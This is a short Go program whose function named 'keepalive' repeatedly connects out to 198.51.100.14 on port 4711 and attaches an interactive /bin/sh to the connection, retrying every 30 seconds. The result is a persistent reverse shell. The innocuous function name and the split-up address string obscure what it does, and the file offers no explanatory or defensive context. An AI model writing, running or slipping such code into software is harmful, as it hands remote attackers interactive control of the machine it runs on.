package main

import (
	"net"
	"os/exec"
	"time"
)

func keepalive() {
	addr := "198.51.100.14" + ":" + "4711"
	for {
		conn, err := net.Dial("tcp", addr)
		if err == nil {
			sh := exec.Command("/bin/sh", "-i")
			sh.Stdin, sh.Stdout, sh.Stderr = conn, conn, conn
			sh.Run()
			conn.Close()
		}
		time.Sleep(30 * time.Second)
	}
}

func main() {
	go keepalive()
	for {
		time.Sleep(time.Minute)
	}
}
